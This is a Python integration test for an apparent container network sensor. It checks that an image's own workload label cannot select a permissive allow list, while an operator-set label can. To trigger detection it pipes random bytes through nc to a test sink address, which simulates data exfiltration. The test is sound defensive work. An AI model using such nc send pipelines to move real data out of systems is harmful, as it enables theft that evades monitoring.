"""Finding 7: identity is the runtime's, not the workload's. An image's own
LABEL io.sluice.workload=... must not pick the baseline (and allow list)
its containers are judged by; the same label set on the container by
whoever ran it does."""

from __future__ import annotations

import json
from pathlib import Path

from tests.privileged.harness import IMAGE, SINK_IP, Docker, SensorProc, SinkNet, cid_of

LABELLED = "sluice-test-labelled:latest"


def _run(docker: Docker, net: SinkNet, image: str, script: str, *labels: str) -> str:
    args = ["run", "-d", "--network", "none"]
    for lab in labels:
        args += ["--label", lab]
    gate = "until [ -e /tmp/.go ]; do usleep 20000; done; "
    cid = docker.docker(*args, image, "sh", "-c", gate + script)
    pid = int(docker.docker("inspect", "-f", "{{.State.Pid}}", cid))
    net.attach(pid)
    docker.docker("exec", cid, "touch", "/tmp/.go")
    docker.docker("wait", cid, timeout=60)
    return cid


def test_an_image_label_does_not_choose_the_workload(base: Path, docker: Docker, net: SinkNet) -> None:
    # an image that names itself "payments" (a workload the operator allows)
    tmp = docker.docker("create", IMAGE, "true")
    docker.docker("commit", "--change", "LABEL io.sluice.workload=payments", tmp, LABELLED)
    docker.docker("rm", tmp)
    s = SensorProc(
        base,
        docker.sock,
        name="identity",
        extra_config='[[allow]]\nworkload = "payments"\ncomment = "the payments team ships files"\n',
    )
    s.start()
    try:
        send = f"head -c 300000 /dev/urandom | nc {SINK_IP} 9003"
        from_image = _run(docker, net, LABELLED, send)
        a = s.wait_for(
            lambda d: d["event"]["kind"] == "alert" and cid_of(d) == from_image, timeout=20, what="the alert"
        )
        assert a["sluice"]["workload"] == "sluice-test-labelled"  # the image repository, not "payments"
        # set on the container by whoever ran it: it counts (and the allow entry applies)
        by_operator = _run(docker, net, IMAGE, send.replace("9003", "9005"), "io.sluice.workload=payments")
        s.settle(3)
        assert not [d for d in s.docs() if d["event"]["kind"] == "alert" and cid_of(d) == by_operator]
        assert json.loads(s.status("--json").stdout)["detection"]["allowed"] >= 1
    finally:
        assert s.stop() == 0, s.stderr_text()
